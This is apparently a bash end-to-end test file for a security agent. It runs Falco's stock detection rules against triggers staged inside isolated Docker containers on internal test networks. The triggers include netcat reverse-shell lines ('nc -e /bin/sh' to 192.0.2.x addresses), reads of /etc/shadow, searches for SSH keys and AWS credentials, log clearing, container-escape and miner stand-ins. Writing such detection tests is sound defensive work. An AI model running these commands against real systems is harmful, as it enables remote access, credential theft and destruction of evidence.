# shellcheck shell=bash
# Family "falco": Falco's rules, unmodified, on their triggers

# A network of the test's own on TEST-NET (192.0.2.0/24, internal: nothing
# leaves the machine) with a server at 192.0.2.10: the "outside" address a
# rule about outbound traffic needs a connect to succeed with.
TESTNET=vigil-e2e-testnet

testnet_up() {
	docker network create --internal --subnet 192.0.2.0/24 "$TESTNET" >/dev/null 2>&1
	docker run -d --name "$TAG-f-srv" --network "$TESTNET" --ip 192.0.2.10 "$IMG" \
		sh -c 'while :; do nc -l -p 443 >/dev/null; done' >/dev/null
}

testnet_down() {
	docker rm -f "$TAG-f-srv" >/dev/null 2>&1
	docker network rm "$TESTNET" >/dev/null 2>&1
}

# Falco's stable rules, unmodified, on their triggers: which fire.
t_falco_rules() {
	local fout=$WORK/falco.json ferr=$WORK/falco.err pid fired expected missing r late
	agent_start falco --rules "$ROOT/../shared/falco/falco_rules.yaml" --alerts-only ||
		{ fail "falco: agent starts"; return; }
	pid=$AGENT_PID
	# the API server's service address as the kubelet gives it to a pod
	docker run --rm --network "$TESTNET" -e KUBERNETES_SERVICE_HOST=192.0.2.10 "$IMG" \
		vigil-testbin connect 192.0.2.10 443 >/dev/null 2>&1
	# an "ssh" (the rule matches the path exec ran) to a port other than 22
	docker run --rm --network "$TESTNET" "$IMG" \
		sh -c 'cp /bin/vigil-testbin /tmp/ssh && /tmp/ssh connect 192.0.2.10 443' >/dev/null 2>&1
	docker run --rm --network none "$IMG" cat /etc/shadow >/dev/null 2>&1
	# a web server that has run for 6 s reads a secret (in the background: the rest goes on)
	docker run --rm --network none "$IMG" sh -c 'cp /bin/vigil-testbin /tmp/nginx && /tmp/nginx open-after 6 /etc/shadow' \
		>/dev/null 2>&1 &
	late=$!
	docker run --rm --network none "$IMG" cat /etc/../etc/../etc/shadow >/dev/null 2>&1
	docker run --rm --network none -t "$IMG" sh -c true >/dev/null 2>&1
	docker run --rm --network none "$IMG" nc -e /bin/sh 192.0.2.1 4444 >/dev/null 2>&1
	docker run --rm --network none "$IMG" find /etc -name id_rsa >/dev/null 2>&1
	docker run --rm --network none "$IMG" find / -path /root/.aws/credentials >/dev/null 2>&1
	docker run --rm --network none "$IMG" sh -c 'mkdir -p /var/log && echo > /var/log/syslog' >/dev/null 2>&1
	# as the entrypoint: busybox sh runs some applets without an exec
	docker run --rm --network none "$IMG" shred -n 1 /etc/group >/dev/null 2>&1
	docker run --rm --network none "$IMG" ln -s /etc/shadow /tmp/l >/dev/null 2>&1
	docker run --rm --network none "$IMG" ln /etc/shadow /tmp/h >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin packet-socket >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin dupinet >/dev/null 2>&1
	docker run --rm --network none --cap-add SYS_ADMIN "$IMG" sh -c 'echo x > /tmp/release_agent' >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin priv >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin traceme >/dev/null 2>&1
	docker run --rm --network none --tmpfs /dev/shm:exec "$IMG" sh -c 'cp /bin/busybox /dev/shm/x && /dev/shm/x true' >/dev/null 2>&1
	docker run --rm --network none "$IMG" sh -c 'cp /bin/busybox /tmp/x && /tmp/x true' >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin memfd-exec /bin/busybox >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin spawn-as httpd /bin/sh -c true >/dev/null 2>&1
	# exec'd by path: busybox sh would run its login applet as "exe"
	docker run --rm --network none --user nobody "$IMG" vigil-testbin spawn-as getty /bin/login </dev/null >/dev/null 2>&1
	# privileged as Docker makes it (see t_container_config_and_caps)
	docker run --rm --network none --cap-add SYS_ADMIN --cap-add SYS_MODULE --security-opt systempaths=unconfined \
		"$IMG" sh -c 'ln -s /bin/busybox /tmp/debugfs && /tmp/debugfs true' >/dev/null 2>&1
	wait "$late"	# the web server's late read
	sleep 2
	kill -TERM "$pid"
	wait "$pid"
	fired=$(jq -r '.rules[]?' "$fout" 2>/dev/null | sort -u)
	echo "# Falco stable rules that fired:"
	echo "$fired" | sed 's/^/#   /'
	expected="Read sensitive file untrusted
Directory traversal monitored file read
Terminal shell in container
Netcat Remote Code Execution in Container
Search Private Keys or Passwords
Find AWS Credentials
Clear Log Activities
Remove Bulk Data from Disk
Create Symlink Over Sensitive Files
Create Hardlink Over Sensitive Files
Packet socket created in container
Redirect STDOUT/STDIN to Network Connection in Container
Detect release_agent File Container Escapes
PTRACE attached to process
PTRACE anti-debug attempt
Execution from /dev/shm
Drop and execute new binary in container
Fileless execution via memfd_create
Run shell untrusted
System user interactive
Debugfs Launched in Privileged Container
Contact K8S API Server From Container
Disallowed SSH Connection Non Standard Port
Read sensitive file trusted after startup"
	missing=""
	while read -r r; do
		echo "$fired" | grep -qxF "$r" || missing="$missing [$r]"
	done <<<"$expected"
	if [ -z "$missing" ] && grep -q "25 loaded, 0 skipped" "$ferr"; then
		ok "falco: the stable rules load (25 of 25) and 24 fire on their triggers"
	else
		fail "falco: stable rules load and fire" "did not fire:$missing" "$(grep rules: "$ferr")"
	fi
}

# Falco's incubating and sandbox rules, unmodified, together: the rules
# that need the fields from kernel data (capabilities permitted, the
# environment exec laid out, process-group leadership, either end of a
# socket) fire on their triggers, and their twins stay quiet.
t_falco_more_rules() {
	local fout=$WORK/falco-more.json ferr=$WORK/falco-more.err pid
	agent_start falco-more --rules "$ROOT/../shared/falco/falco-incubating_rules.yaml" \
		--rules "$ROOT/../shared/falco/falco-sandbox_rules.yaml" --alerts-only ||
		{ fail "falco: agent with the incubating and sandbox rules starts"; return; }
	pid=$AGENT_PID
	# a mount namespace without CAP_SYS_ADMIN (refused). Not "unshare -U":
	# its exit already holds the new user namespace's full capability set,
	# so the rule rightly stays quiet on it
	docker run --rm --name "$TAG-f-unshare" --network none --security-opt seccomp=unconfined "$IMG" \
		unshare -m true >/dev/null 2>&1
	docker run --rm --name "$TAG-f-unshare-ok" --network none --cap-add SYS_ADMIN --security-opt seccomp=unconfined \
		"$IMG" unshare -m true >/dev/null 2>&1
	docker run --rm --name "$TAG-f-capable" --network none --cap-add SYS_ADMIN "$IMG" true >/dev/null 2>&1
	docker run --rm --name "$TAG-f-plain" --network none "$IMG" true >/dev/null 2>&1
	docker run --rm --name "$TAG-f-proxy" --network none -e HTTP_PROXY=http://192.0.2.10:3128 "$IMG" \
		wget -q -T 1 http://192.0.2.11/ >/dev/null 2>&1
	docker run --rm --name "$TAG-f-noproxy" --network none "$IMG" wget -q -T 1 http://192.0.2.11/ >/dev/null 2>&1
	docker run --rm --name "$TAG-f-tunables" --network none -e GLIBC_TUNABLES=glibc.malloc.mxfast=0 "$IMG" \
		true >/dev/null 2>&1
	docker run --rm --name "$TAG-f-sysproc" --network "$TESTNET" "$IMG" \
		sh -c 'cp /bin/vigil-testbin /tmp/date && /tmp/date connect 192.0.2.10 443' >/dev/null 2>&1
	# a recon program leading its process group on a terminal (as a shell with job control runs it) ...
	docker run --rm --name "$TAG-f-recon" --network none -t "$IMG" whoami >/dev/null 2>&1
	# ... and one a script runs, in the script's group
	docker run --rm --name "$TAG-f-script" --network none -t "$IMG" sh -c '/bin/whoami; true' >/dev/null 2>&1
	sleep 2
	kill -TERM "$pid"
	wait "$pid"
	check "falco: incubating and sandbox rules load together, none skipped (56 rules)" \
		grep -q "rules: 56 loaded, 0 skipped" "$ferr"
	# -s: jq 1.6's -e looks only at the last input's result
	fired() { jq -se --arg c "$1" --arg r "$2" 'any(.[]; .container.name == $c and any((.rules // [])[]; . == $r))' \
		"$fout" >/dev/null; }
	fired_anywhere() { jq -se --arg r "$1" 'any(.[]; any((.rules // [])[]; . == $r))' "$fout" >/dev/null; }
	env_in_plain_exec() { jq -se 'any(.[]; .type == "exec" and (.rules // [] | length) == 0 and
		(tostring | contains("HTTP_PROXY")))' "$fout" >/dev/null; }
	check "falco: Change namespace privileges via unshare (thread.cap_permitted lacks CAP_SYS_ADMIN)" \
		fired "$TAG-f-unshare" "Change namespace privileges via unshare"
	check "falco: ... not for a container that holds CAP_SYS_ADMIN" \
		! fired "$TAG-f-unshare-ok" "Change namespace privileges via unshare"
	check "falco: Launch Excessively Capable Container (thread.cap_permitted)" \
		fired "$TAG-f-capable" "Launch Excessively Capable Container"
	check "falco: ... not for a container with Docker's default capabilities" \
		! fired "$TAG-f-plain" "Launch Excessively Capable Container"
	check "falco: Program run with disallowed http proxy env (proc.env)" \
		fired "$TAG-f-proxy" "Program run with disallowed http proxy env"
	check "falco: ... not without HTTP_PROXY" ! fired "$TAG-f-noproxy" "Program run with disallowed http proxy env"
	check "falco: Launch Ingress Remote File Copy Tools in Container (wget)" \
		fired "$TAG-f-noproxy" "Launch Ingress Remote File Copy Tools in Container"
	check "falco: Potential Local Privilege Escalation via Environment Variables Misuse (GLIBC_TUNABLES)" \
		fired "$TAG-f-tunables" "Potential Local Privilege Escalation via Environment Variables Misuse"
	check "falco: System procs network activity (fd.ip, fd.net: a 'date' connects out)" \
		fired "$TAG-f-sysproc" "System procs network activity"
	check "falco: Basic Interactive Reconnaissance (proc.is_vpgid_leader, on a terminal)" \
		fired "$TAG-f-recon" "Basic Interactive Reconnaissance"
	check "falco: ... not for the same program a script runs in its own process group" \
		! fired "$TAG-f-script" "Basic Interactive Reconnaissance"
	check "falco: Launch Sensitive Mount Container stays quiet on Docker's own mounts (\"<NA>\" is a missing value)" \
		! fired_anywhere "Launch Sensitive Mount Container"
	check "falco: the environment is in no event, only where a rule's output asks for it" \
		! env_in_plain_exec
}

# stage RULE NAME DOCKER-RUN-ARGS...: a container (named $TAG-fs-NAME) made
# to do what RULE looks for
stage() {
	local rule=$1 name=$2
	shift 2
	STAGED+=("$rule|$TAG-fs-$name")
	docker run --rm --name "$TAG-fs-$name" "$@" >/dev/null 2>&1
}

# More of the incubating and sandbox rules on their triggers, a container
# each: which fire.  The copies of busybox named like a tool (apt-get,
# scp, kubectl, xmrig) run as that tool's name, which is what these rules
# test (proc.name).
t_falco_staged() {
	local fout=$WORK/falco-staged.json pid entry rule ctr nfired=0
	STAGED=()
	agent_start falco-staged --rules "$ROOT/../shared/falco/falco-incubating_rules.yaml" \
		--rules "$ROOT/../shared/falco/falco-sandbox_rules.yaml" --alerts-only ||
		{ fail "falco: agent for the staged rules starts"; return; }
	pid=$AGENT_PID
	local n="--network none" p="--cap-add SYS_ADMIN --cap-add SYS_MODULE --security-opt systempaths=unconfined"
	# shellcheck disable=SC2086 # $n and $p are option words
	{
	stage "Modify Shell Configuration File" shellrc $n "$IMG" cp /etc/hostname /root/.bashrc
	stage "Schedule Cron Jobs" cron $n "$IMG" cp /etc/hostname /etc/crontab
	stage "Read ssh information" sshread $n "$IMG" sh -c 'mkdir -p /root/.ssh; echo k > /root/.ssh/id; /bin/cat /root/.ssh/id'
	stage "Adding ssh keys to authorized_keys" sshkeys $n "$IMG" sh -c 'mkdir -p /root/.ssh; /bin/cp /etc/hostname /root/.ssh/authorized_keys'
	stage "Change thread namespace" setns $n "$IMG" nsenter --net=/proc/1/ns/net true
	stage "Launch Privileged Container" priv $n $p "$IMG" true
	stage "Mount Launched in Privileged Container" privmount $n $p "$IMG" mount -t tmpfs none /mnt
	stage "Non sudo setuid" setuid $n --user nobody "$IMG" vigil-testbin priv
	stage "Create files below dev" devfile $n "$IMG" sh -c 'echo x > /dev/vigil-x'
	stage "Launch Package Management Process in Container" pkg $n "$IMG" sh -c 'cp /bin/busybox /tmp/apt-get; /tmp/apt-get; true'
	stage "Launch Suspicious Network Tool in Container" nettool $n "$IMG" nc -h
	stage "Delete or rename shell history" history $n "$IMG" sh -c 'echo > /root/.bash_history; /bin/rm /root/.bash_history'
	stage "Launch Remote File Copy Tools in Container" scp $n "$IMG" sh -c 'cp /bin/busybox /tmp/scp; /tmp/scp; true'
	stage "Read environment variable from /proc files" environ $n "$IMG" cat /proc/1/environ
	stage "DB program spawned process" dbspawn $n "$IMG" vigil-testbin spawn-as postgres /bin/sh -c true
	stage "Unexpected UDP Traffic" udp --network "$TESTNET" "$IMG" vigil-testbin udp-connect 192.0.2.10 9999
	stage "Write below binary dir" binwrite $n "$IMG" cp /etc/hostname /bin/vigil-new
	stage "Write below etc" etcwrite $n "$IMG" cp /etc/hostname /etc/vigil-new
	stage "Write below root" rootwrite $n "$IMG" cp /etc/hostname /root/vigil-new
	stage "Write below rpm database" rpmdb $n "$IMG" sh -c 'mkdir -p /var/lib/rpm; /bin/cp /etc/hostname /var/lib/rpm/Packages'
	stage "Update Package Repository" repo $n "$IMG" sh -c 'mkdir -p /etc/apt; /bin/cp /etc/hostname /etc/apt/sources.list'
	stage "Modify binary dirs" binmod $n "$IMG" mv /bin/true /bin/true2
	stage "Mkdir binary dirs" binmkdir $n "$IMG" mkdir /bin/vigil-dir
	stage "Detect crypto miners using the Stratum protocol" stratum $n "$IMG" sh -c 'echo stratum+tcp://pool.example:3333 >/dev/null'
	stage "Kubernetes Client Tool Launched in Container" kubectl $n "$IMG" sh -c 'cp /bin/busybox /tmp/kubectl; /tmp/kubectl; true'
	stage "Decoding Payload in Container" decode $n "$IMG" sh -c 'echo aGk= | /bin/base64 -d'
	stage "Known Cryptominer Process Executed" miner $n "$IMG" sh -c 'cp /bin/busybox /tmp/xmrig; /tmp/xmrig; true'
	stage "Web Server Spawned Shell" webshell $n "$IMG" vigil-testbin spawn-as nginx /bin/sh -c true
	stage "Web Server Spawned Suspicious Child Process" webchild $n "$IMG" vigil-testbin spawn-as nginx /bin/id
	stage "Network Tool Executed During NPM Package Install" npm $n "$IMG" vigil-testbin spawn-as npm /bin/nc -h
	stage "Exfiltrating Artifacts via Kubernetes Control Plane" kcp $n "$IMG" tar cf /dev/null /bin/vigil-testbin
	stage "Backdoored library loaded into SSHD (CVE-2024-3094)" xz $n "$IMG" \
		sh -c 'echo x > /tmp/liblzma.so.5.6.1; cp /bin/vigil-testbin /tmp/sshd; /tmp/sshd openat /tmp liblzma.so.5.6.1'
	stage "BPF Program Not Profiled" bpfload $n "$IMG" vigil-testbin bpf-prog-load
	stage "Sudo Potential Privilege Escalation" sudoedit $n "$IMG" sh -c 'cp /bin/busybox /tmp/sudoedit; /tmp/sudoedit -s "x\\"; true'
	stage "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)" pkexec $n "$IMG" \
		sh -c 'cp /bin/busybox /tmp/pkexec; /tmp/pkexec; true'
	stage "Reverse Shell from Web Server" webrev $n "$IMG" vigil-testbin spawn-as nginx /bin/sh -c 'nc -e /bin/sh 192.0.2.1 1; true'
	stage "Privileged Container Device Access" devsd $n --device /dev/loop0:/dev/sdz "$IMG" head -c 1 /dev/sdz
	stage "Container Access to Host Sensitive Paths" hostpath $n -v "$WORK/hostdir:/host/data:ro" "$IMG" cat /host/data/secret
	# a metadata service of the test's own: an internal network on the link-local
	# range with a server at 169.254.169.254; nothing leaves the machine
	if docker network create --internal --subnet 169.254.169.0/24 "$TESTNET-meta" >/dev/null 2>&1; then
		docker run -d --name "$TAG-fs-metasrv" --network "$TESTNET-meta" --ip 169.254.169.254 "$IMG" \
			sh -c 'while :; do nc -l -p 80 >/dev/null; done' >/dev/null
		stage "Contact cloud metadata service from container" meta --network "$TESTNET-meta" "$IMG" \
			vigil-testbin connect 169.254.169.254 80
		stage "Contact EC2 Instance Metadata Service From Container" meta2 --network "$TESTNET-meta" "$IMG" \
			vigil-testbin connect 169.254.169.254 80
		docker rm -f "$TAG-fs-metasrv" >/dev/null 2>&1
		docker network rm "$TESTNET-meta" >/dev/null 2>&1
	else
		fail "falco staged: an internal network on 169.254.169.0/24 for the metadata rules"
	fi
	stage "Set Setuid or Setgid bit" setuidbit $n "$IMG" sh -c 'echo x > /tmp/x; chmod u+s /tmp/x'
	stage "Unprivileged Delegation of Page Faults Handling to a Userspace Process" uffd $n --user nobody \
		--security-opt seccomp=unconfined "$IMG" vigil-testbin userfaultfd
	stage "Launch Sensitive Mount Container" sensmount $n -v /proc:/host-proc:ro "$IMG" true
	stage "Write below monitored dir" monitored $n "$IMG" sh -c 'mkdir -p /usr/local/bin; /bin/cp /etc/hostname /usr/local/bin/vigil-new'
	}
	sleep 2
	kill -TERM "$pid"
	wait "$pid"
	for entry in "${STAGED[@]}"; do
		rule=${entry%%|*}
		ctr=${entry#*|}
		if jq -se --arg c "$ctr" --arg r "$rule" 'any(.[]; .container.name == $c and any((.rules // [])[]; . == $r))' \
			"$fout" >/dev/null; then
			ok "falco staged: $rule"
			nfired=$((nfired + 1))
		else
			fail "falco staged: $rule" "$(jq -c --arg c "$ctr" 'select(.container.name == $c) | [.type, .rules, .process.args]' "$fout" | head -5)"
		fi
	done
	echo "# falco: $nfired of ${#STAGED[@]} staged incubating and sandbox rules fired"
}

# The rules about the host's own processes (not container): harmless
# programs under the names they look for, run on the host, the agent
# reporting host processes too (--host).
t_falco_host_rules() {
	local fout=$WORK/falco-host.json pid d rule
	d=$(mktemp -d)
	cp /bin/true "$d/chpasswd"
	cp /bin/true "$d/nmap"
	cp /bin/true "$d/nc"
	agent_start falco-host --host --rules "$ROOT/../shared/falco/falco-incubating_rules.yaml" \
		--rules "$ROOT/../shared/falco/falco-sandbox_rules.yaml" --alerts-only ||
		{ fail "falco: agent for the host rules starts"; rm -rf "$d"; return; }
	pid=$AGENT_PID
	"$d/chpasswd" --help >/dev/null
	"$d/nmap" -sn 192.0.2.10
	"$d/nc" -e /bin/sh 192.0.2.10 443
	sleep 2
	kill -TERM "$pid"
	wait "$pid"
	for rule in "User mgmt binaries:$d/chpasswd" "Launch Suspicious Network Tool on Host:$d/nmap" \
		    "Netcat/Socat Remote Code Execution on Host:$d/nc"; do
		if jq -se --arg r "${rule%%:*}" --arg e "${rule#*:}" \
			'any(.[]; .container.id == "host" and .process.exe == $e and any((.rules // [])[]; . == $r))' \
			"$fout" >/dev/null; then
			ok "falco host: ${rule%%:*}"
		else
			fail "falco host: ${rule%%:*}" "$(jq -c --arg e "${rule#*:}" 'select(.process.exe == $e) | [.type, .rules]' "$fout" | head -3)"
		fi
	done
	rm -rf "$d"
}

family_falco() {
	testnet_up
	t_falco_rules
	t_falco_more_rules
	t_falco_staged
	t_falco_host_rules
	testnet_down
}
